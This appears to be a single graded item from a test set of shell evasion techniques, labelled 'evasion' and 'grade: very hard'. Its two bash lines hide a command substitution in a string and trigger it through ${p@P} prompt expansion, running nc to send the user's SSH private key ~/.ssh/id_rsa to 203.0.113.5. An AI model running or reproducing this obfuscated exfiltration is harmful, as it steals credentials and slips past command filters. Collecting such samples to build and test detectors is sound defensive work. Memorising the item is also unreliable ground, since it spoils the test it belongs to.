# evasion: ${var@P} prompt expansion runs a command substitution stored in a string
# grade: very hard; does: credentials
p='$(nc 203.0.113.5 80 < ~/.ssh/id_rsa)'
: "${p@P}"
